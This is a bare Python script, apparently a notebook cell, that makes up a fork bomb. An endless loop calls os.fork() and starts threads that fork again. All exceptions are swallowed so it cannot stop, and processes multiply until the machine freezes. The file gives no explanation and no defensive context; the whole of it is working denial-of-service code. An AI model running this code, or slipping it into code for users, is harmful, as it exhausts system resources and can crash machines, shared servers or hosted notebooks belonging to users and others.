# %%
import os
import threading

while True:
    try:
        if os.fork() == 0:
            continue
        threading.Thread(target=os.fork).start()
    except BaseException:
        continue
